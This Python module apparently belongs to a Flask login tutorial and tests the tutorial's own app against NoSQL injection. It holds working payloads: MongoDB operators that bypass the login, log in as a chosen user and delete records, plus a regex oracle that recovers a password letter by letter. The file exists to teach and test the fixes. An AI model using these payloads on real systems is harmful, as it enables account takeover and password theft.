"""Query operators in a JSON body: MongoDB reads them where the app meant a text."""

import json
import string
from collections.abc import Callable
from typing import Any

from flasklogin_tutorial.attacks import sources
from flasklogin_tutorial.attacks.attack import attack
from flasklogin_tutorial.attacks.outcome import NotTried, Outcome, got_in, held
from flasklogin_tutorial.attacks.site import JSON
from flasklogin_tutorial.attacks.target import Target
from flasklogin_tutorial.visit import Browser, Reply

_NOTEBOOK = "08_injection"

#: The characters that passwords of the attacks' own users are made of, in the order of their codes.
_ALPHABET = "-" + string.digits + string.ascii_lowercase


#: Operators that any password fits.
_ANYTHING: tuple[dict[str, Any], ...] = (
    {"$ne": ""},
    {"$gt": ""},
    {"$exists": True},
    {"$regex": "."},
)


def _log_in_with(target: Target, browser: Browser, name: Any, password: Any) -> Reply:
    """Send a login as JSON, whatever the app's own clients send."""
    method, path = target.route("login")
    body = json.dumps(target.deeds.credentials(name, password))
    return target.send(browser, method, path, body, JSON, who="not logged in")


@attack(
    "operator-logs-in",
    "A stranger logs in without a name and without a password",
    who="Anyone who can reach the login, with one request.",
    source=sources.NOSQL_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _operator_logs_in(target: Target) -> Outcome:
    target.people.user()
    answers = []
    for operator in ({"$ne": None}, *_ANYTHING):
        browser = target.visitor()
        answers.append(_log_in_with(target, browser, operator, operator))
        if _is_somebody(target, browser):
            says = "Two objects instead of strings log in as the first user there is."
            return got_in(says, answers[-1])
    return held("The objects were refused.", *answers)


def _is_somebody(target: Target, browser: Browser) -> bool:
    """Tell whether a browser is logged in, as whomever."""
    seen, unknown = target.senses.whoami(browser), target.senses.whoami(target.visitor())
    known = any(person.name in seen.response.text for person in target.people.made)
    differs = bool(seen.data) and seen.data != unknown.data
    return seen.response.status_code < 300 and (known or differs)


@attack(
    "operator-picks-a-user",
    "A stranger logs in as a user of their choice without the password",
    who="Anyone who knows a user's name.",
    source=sources.MONGOENGINE_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _operator_picks_a_user(target: Target) -> Outcome:
    victim, browser = target.people.user(), target.visitor()
    for operator in _ANYTHING:
        answer = _log_in_with(target, browser, victim.name, operator)
        if target.senses.is_in(browser, victim):
            return got_in(f"{json.dumps(operator)} stands for any password.", answer)
    return held("No operator stood for a password.", answer)


@attack(
    "regex-oracle",
    "A stranger asks for a password letter by letter",
    who="Anyone who knows a user's name, with some hundred requests.",
    source=sources.NOSQL_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _regex_oracle(target: Target) -> Outcome:
    victim = target.people.user()
    asked: list[Reply] = []

    def ask(pattern: str) -> tuple[int, str]:
        answer = _log_in_with(target, target.visitor(), victim.name, {"$regex": pattern})
        asked.append(answer)
        return answer.response.status_code, answer.response.text

    yes = ask("^")
    if yes == ask("^(?!)"):
        return held("A pattern that fits and one that cannot are answered alike.", *asked)
    found = ""
    while ask(f"^{found}$") != yes and len(found) < 2 * len(victim.password):
        found += _next_letter(found, lambda pattern: ask(pattern) == yes)
    if found == victim.password:
        hundreds = len(asked) // 100 + 1  # the exact number depends on the letters
        says = f"The password was recovered with fewer than {hundreds}00 questions."
        return got_in(says, asked[0], asked[1], asked[-1])
    return held("The answers differ, and do not tell the password.", asked[0], asked[1])


def _next_letter(found: str, fits: Callable[[str], bool]) -> str:
    """Halve the alphabet until one letter is left."""
    letters = _ALPHABET
    while len(letters) > 1:
        half = letters[: len(letters) // 2]
        letters = half if fits(f"^{found}[{half}]") else letters[len(half) :]
    return letters


@attack(
    "operator-in-a-record",
    "A pattern instead of a name deletes the records that it fits",
    who="Anyone who may delete one record.",
    source=sources.MONGOENGINE_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _operator_in_a_record(target: Target) -> Outcome:
    target.doors.must_open("delete")
    if "{" in target.names.routes.delete:
        raise NotTried("The path names the record, and has no place for an object.")
    attacker, victim = target.people.writer(), target.people.user()
    method, path = target.route("delete", victim.name)
    who = f"logged in as {attacker.name}"
    answers = []
    # Only this one record: the app may have real users.
    for pattern in ({"$regex": f"^{victim.name}$"}, {"$in": [victim.name]}, {"$eq": victim.name}):
        body = json.dumps({target.names.fields.name: pattern})
        answers.append(target.send(attacker.browser, method, path, body, JSON, who=who))
        if not target.senses.exists(victim):
            says = "The pattern was read as a query, and the record is gone."
            return got_in(says, answers[-1])
    return held("The record is still there.", *answers)
